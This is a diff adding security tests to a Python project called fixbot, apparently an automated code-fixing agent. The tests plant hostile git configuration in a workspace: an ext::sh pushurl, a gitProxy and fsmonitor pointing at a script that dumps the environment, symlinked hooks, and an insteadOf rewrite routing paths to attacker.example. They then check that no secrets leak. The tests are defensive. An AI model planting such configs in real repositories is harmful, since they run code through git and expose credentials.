@@ -12,6 +12,7 @@ from fixbot.core.models import OutcomeKind
 from fixbot.core.settings import Settings
 from fixbot.github.api import checkout
 from fixbot.process import worlds
+from fixbot.process.sync import Worlds
 from fixbot.run import engine
 from fixbot.run.engine import Agents
 from tests.fakes.fixer import ScriptedFixer
@@ -79,6 +80,9 @@ def test_what_the_check_plants_in_the_workspaces_git_and_home_never_runs_or_hide
     # fixbot's clone never reads it
     with (repo / ".git" / "config").open("a") as handle:
         handle.write(f'[remote "origin"]\n\tpushurl = ext::sh -c "echo ext >> {marker}"\n')
+    # the remote is the server's, as the Action sets it (here a folder: `file` allowed)
+    worlds.write_gitconfig(fixbot.parent, {}, protocols=("file",))
+    git(fixbot, "remote", "set-url", "origin", str(origin))
     with worlds.entered_for(repo, os.environ):
         checkout.push(fixbot, str(outcome.commit_sha), "main", {}, base=state.start_sha, secrets={})
     assert git(origin, "rev-parse", "main") == outcome.commit_sha
@@ -149,3 +153,81 @@ def test_the_workspace_is_found_without_any_git_reading_its_repository(tmp_path:
     assert len(fixer.history) == 1  # the workspace's check failed first: it ran there
     assert (repo / "value.txt").read_text() == "ok\n"
     assert git(elsewhere, "status", "--porcelain") == ""
+
+
+MARK = (
+    "#!/bin/sh\n{{ echo uid=$(id -u); test -d /proc/{pid} && echo sees-fixbot; env; }}"
+    " >> {marker}\nexit 0\n"
+)
+
+
+def plant_hand_over_traps(tmp_path: Path, repo: Path) -> Path:
+    """The workspace's `.git/config` makes any git run there run a script recording its uid,
+    whether it sees fixbot's process (this test's) and its environment: a `core.gitProxy` that
+    `url.*.insteadOf` routes every local path through, an fsmonitor, and hooks
+    (`reference-transaction`, `post-checkout`)."""
+    marker, script, hooks = tmp_path / "ran.txt", tmp_path / "mark.sh", tmp_path / "hooks"
+    script.write_text(MARK.format(marker=marker, pid=os.getpid()))
+    script.chmod(0o755)
+    hooks.mkdir()
+    for name in ("reference-transaction", "post-checkout", "post-merge"):
+        (hooks / name).symlink_to(script)
+    git(repo, "config", "core.gitProxy", str(script))
+    git(repo, "config", "url.git://attacker.example/.insteadOf", "/")
+    git(repo, "config", "core.fsmonitor", str(script))
+    git(repo, "config", "core.hooksPath", str(hooks))
+    return marker
+
+
+def test_without_the_commands_launcher_the_hand_over_runs_no_git_in_the_workspace(
+    tmp_path: Path,
+) -> None:
+    """The CLI as root with `run-as`: the commands' user cannot read fixbot's clone, so fixbot
+    does not move the workspace's branch itself (its git there ran the gitProxy as root): the
+    workspace gets the files, the note says how to take the commits, and nothing planted runs."""
+    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n"})
+    start = git(repo, "rev-parse", "HEAD")
+    fixbot = tmp_path / "fixbot"
+    git(tmp_path, "clone", "-q", str(repo), str(fixbot))
+    (fixbot / "value.txt").write_text("ok\n")
+    git(fixbot, "commit", "-qam", "fix")
+    marker = plant_hand_over_traps(tmp_path, repo)
+    pair = Worlds(fixbot, repo)
+    note = worlds.deliver(pair, None)
+    assert not marker.exists(), marker.read_text()
+    assert (repo / "value.txt").read_text() == "ok\n"  # the files, as bytes
+    assert git(repo, "rev-parse", "HEAD") == start  # the branch stays
+    assert note is not None and f"git fetch {fixbot} HEAD" in note
+
+
+def test_the_hand_over_runs_in_the_commands_world_without_secrets(tmp_path: Path) -> None:
+    """The CLI's hand-over moves the workspace's branch with git run as the project's commands
+    run (their user, a PID namespace of their own, their environment without secrets): the
+    gitProxy the workspace's configuration routes the fetch through sees no model key and none
+    of fixbot's processes. Before, fixbot's own git ran it, outside any namespace."""
+    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n", "check.sh": "grep -q ok value.txt\n"})
+    start = git(repo, "rev-parse", "HEAD")
+    marker = plant_hand_over_traps(tmp_path, repo)
+    fixer = ScriptedFixer().enqueue({"value.txt": "ok\n"})
+    settings = Settings(check="sh check.sh", review=False, max_attempts=2, run_as="self")
+    key = "sk-hand-over-model-key-0123456789"
+    env = {**os.environ, "OPENAI_API_KEY": key}
+    outcome, _ = engine.run(settings, repo, env=env, agents=Agents(fixer, None))
+    assert outcome.outcome is OutcomeKind.FIXED, outcome.reason
+    seen = marker.read_text()  # the proxy ran, in the commands' world
+    assert f"uid={os.geteuid()}" in seen and key not in seen
+    assert "sees-fixbot" not in seen  # a PID namespace of its own: fixbot's process is not there
+    assert git(repo, "rev-parse", "HEAD") == start  # its proxy broke its own fetch: no move
+    assert (repo / "value.txt").read_text() == "ok\n"  # the files came anyway
+
+
+def test_the_hand_over_moves_the_branch(tmp_path: Path) -> None:
+    """Without traps the hand-over moves the workspace's branch to fixbot's verified commit and
+    excludes the state folder's copy there."""
+    repo = make_repo(tmp_path / "repo", {"value.txt": "a\n", "check.sh": "grep -q ok value.txt\n"})
+    fixer = ScriptedFixer().enqueue({"value.txt": "ok\n"})
+    settings = Settings(check="sh check.sh", review=False, max_attempts=2, run_as="self")
+    outcome, _ = engine.run(settings, repo, env=dict(os.environ), agents=Agents(fixer, None))
+    assert outcome.outcome is OutcomeKind.FIXED, outcome.reason
+    assert git(repo, "rev-parse", "HEAD") == outcome.commit_sha
+    assert git(repo, "status", "--porcelain") == ""
